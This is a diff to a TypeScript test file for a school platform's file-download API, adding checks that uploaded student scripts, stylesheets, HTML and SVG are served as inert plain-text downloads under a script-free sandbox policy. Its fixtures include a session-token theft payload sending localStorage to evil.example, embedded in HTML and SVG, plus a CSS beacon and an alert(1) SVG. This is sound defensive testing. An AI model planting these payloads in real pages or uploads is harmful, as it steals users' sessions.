@@ -1,6 +1,7 @@
 import { createHash } from 'node:crypto';
 import { ApiPaths, FILE_SIZE_LIMIT_BYTES } from '@school/contracts';
 import { buildTestApp, loginAs } from '../test/test-app';
+import { FILE_CSP } from './content-type';
 import { png } from './test-png';
 import { startFakeS3 } from './test-s3';
 
@@ -48,27 +49,85 @@ describe('files on local disk', () => {
     const form = multipart('page.png', Buffer.from('<!doctype html><script>localStorage.clear()</script>' + Date.now()), 'image/png');
     const md5 = (await ctx.app.inject({ method: 'POST', url: ApiPaths.fileUpload, headers: { ...s.auth, ...form.headers }, payload: form.payload })).body;
     const page = await ctx.app.inject({ method: 'GET', url: ApiPaths.file(md5), headers: { ...s.auth, 'sec-fetch-dest': 'document' } });
-    expect(page.headers['content-type']).toBe('text/html');
+    expect(page.headers['content-type']).toBe('text/plain; charset=utf-8');
     expect(page.headers['content-disposition']).toBe("attachment; filename*=UTF-8''page.png");
-    expect(page.headers['content-security-policy']).toBe("sandbox allow-scripts allow-popups; frame-ancestors 'self'");
+    expect(page.headers['content-security-policy']).toBe(FILE_CSP);
     expect(page.headers['x-content-type-options']).toBe('nosniff');
+    expect(page.headers.vary).toContain('Sec-Fetch-Dest');
     // Unknown destination (an old browser, a script): a download too.
     expect((await ctx.app.inject({ method: 'GET', url: ApiPaths.file(md5), headers: s.auth })).headers['content-disposition']).toMatch(/^attachment/);
     // Our players embed it in <iframe sandbox>: it renders there, in an opaque origin.
     const framed = await ctx.app.inject({ method: 'GET', url: ApiPaths.file(md5), headers: { ...s.auth, 'sec-fetch-dest': 'iframe' } });
+    expect(framed.headers['content-type']).toBe('text/html');
     expect(framed.headers['content-disposition']).toBeUndefined();
-    expect(framed.headers['content-security-policy']).toContain('sandbox allow-scripts');
+    expect(framed.headers['content-security-policy']).toBe("sandbox allow-scripts allow-popups; frame-ancestors 'self'");
     const svg = multipart('cat.svg', Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><!--${Date.now()}--></svg>`), 'image/svg+xml');
     const svgMd5 = (await ctx.app.inject({ method: 'POST', url: ApiPaths.fileUpload, headers: { ...s.auth, ...svg.headers }, payload: svg.payload })).body;
     const drawing = await ctx.app.inject({ method: 'GET', url: ApiPaths.file(svgMd5), headers: s.auth });
-    expect(drawing.headers['content-type']).toBe('image/svg+xml');
+    expect(drawing.headers['content-type']).toBe('text/plain; charset=utf-8');
     expect(drawing.headers['content-disposition']).toMatch(/^attachment/);
     const pic = multipart('pic.html', png('png-' + Date.now()), 'text/html');
     const pngMd5 = (await ctx.app.inject({ method: 'POST', url: ApiPaths.fileUpload, headers: { ...s.auth, ...pic.headers }, payload: pic.payload })).body;
-    const picGet = await ctx.app.inject({ method: 'GET', url: ApiPaths.file(pngMd5), headers: s.auth });
+    const picGet = await ctx.app.inject({ method: 'GET', url: ApiPaths.file(pngMd5), headers: { ...s.auth, 'sec-fetch-dest': 'image' } });
     expect(picGet.headers['content-type']).toBe('image/png');
-    expect(picGet.headers['content-security-policy'] ?? '').not.toContain('sandbox');
+    expect(picGet.headers['content-security-policy']).toBe(FILE_CSP);
     expect(picGet.headers['content-disposition']).toBeUndefined();
+  });
+
+  it("a student's .js, .css, .html and .svg never run as script, style or page on the school's origin", async () => {
+    const s = await loginAs(ctx.app, 'student1');
+    const upload = async (name: string, text: string, clientType: string) => {
+      const form = multipart(name, Buffer.from(`${text}\n/* ${Date.now()} ${Math.random()} */`), clientType);
+      const res = await ctx.app.inject({ method: 'POST', url: ApiPaths.fileUpload, headers: { ...s.auth, ...form.headers }, payload: form.payload });
+      expect(res.statusCode).toBe(200);
+      return res.body;
+    };
+    const get = (md5: string, dest?: string) =>
+      ctx.app.inject({ method: 'GET', url: ApiPaths.file(md5), headers: { ...s.auth, ...(dest ? { 'sec-fetch-dest': dest } : {}) } });
+    const steal = "fetch('//evil.example/?' + localStorage.getItem('school.session'))";
+    const js = await upload('steal.js', steal, 'text/javascript');
+    const css = await upload('steal.css', 'body { background: url(//evil.example/x) }', 'text/css');
+    const html = await upload('steal.html', `<!doctype html><script>${steal}</script>`, 'text/html');
+    const svg = await upload('steal.svg', `<svg xmlns="http://www.w3.org/2000/svg"><script>${steal}</script></svg>`, 'image/svg+xml');
+
+    // <script src="/api/files/…">, <link rel=stylesheet href=…>, or any other way: never a script or
+    // style type (nosniff makes the browser refuse it), always a download, a sandbox without script.
+    for (const md5 of [js, css, html, svg]) {
+      for (const dest of ['script', 'style', 'document', 'empty', 'object', undefined]) {
+        const res = await get(md5, dest);
+        expect(res.statusCode).toBe(200);
+        expect(res.headers['content-type']).toBe('text/plain; charset=utf-8');
+        expect(res.headers['x-content-type-options']).toBe('nosniff');
+        expect(res.headers['content-disposition']).toMatch(/^attachment; filename\*=UTF-8''steal\./);
+        expect(res.headers['content-security-policy']).toMatch(/^sandbox; default-src 'none'/);
+        expect(res.headers['content-security-policy']).not.toContain('allow-scripts');
+      }
+    }
+    // The bytes are intact for whoever fetches them (the Unity and Godot players run them in their sandboxed frame).
+    expect((await get(js, 'empty')).body.startsWith(steal)).toBe(true);
+    // Framed by our players: an opaque origin (no allow-same-origin) that only the school may frame.
+    const framed = await get(html, 'iframe');
+    expect(framed.headers['content-type']).toBe('text/html');
+    expect(framed.headers['content-security-policy']).toMatch(/^sandbox allow-scripts allow-popups; frame-ancestors 'self'$/);
+    // An SVG as <img> is a picture (no script runs in images); JS and CSS are never anything else in a frame.
+    const picture = await get(svg, 'image');
+    expect(picture.headers['content-type']).toBe('image/svg+xml');
+    expect(picture.headers['content-disposition']).toBeUndefined();
+    expect(picture.headers['content-security-policy']).toBe(FILE_CSP);
+    for (const md5 of [js, css]) expect((await get(md5, 'iframe')).headers['content-type']).toBe('text/plain; charset=utf-8');
+
+    // A teacher's page opened directly renders, but without script.
+    const teacher = await loginAs(ctx.app, 'teacher');
+    const lesson = multipart('lesson.html', Buffer.from(`<!doctype html><h1>Урок</h1><script>1</script>${Date.now()}`), 'text/html');
+    const lessonMd5 = (await ctx.app.inject({ method: 'POST', url: ApiPaths.fileUpload, headers: { ...teacher.auth, ...lesson.headers }, payload: lesson.payload })).body;
+    const opened = await ctx.app.inject({ method: 'GET', url: ApiPaths.file(lessonMd5), headers: { ...teacher.auth, 'sec-fetch-dest': 'document' } });
+    expect(opened.headers['content-type']).toBe('text/html');
+    expect(opened.headers['content-disposition']).toBeUndefined();
+    expect(opened.headers['content-security-policy']).toBe(FILE_CSP);
+
+    // The generated covers are pictures too.
+    const cover = await ctx.app.inject({ method: 'GET', url: ApiPaths.cover(1, 0) });
+    expect(cover.headers['content-security-policy']).toBe(FILE_CSP);
   });
 
   it('refuses a file over 28 MB with the spec text', async () => {
